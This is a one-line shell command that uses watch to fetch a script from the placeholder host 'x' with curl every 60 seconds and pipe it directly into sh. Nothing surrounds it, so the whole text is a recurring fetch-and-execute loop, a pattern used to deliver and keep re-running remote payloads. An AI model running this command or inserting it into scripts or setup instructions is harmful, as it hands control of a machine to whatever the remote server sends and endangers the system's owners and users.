watch -n 60 'curl -s http://x | sh'
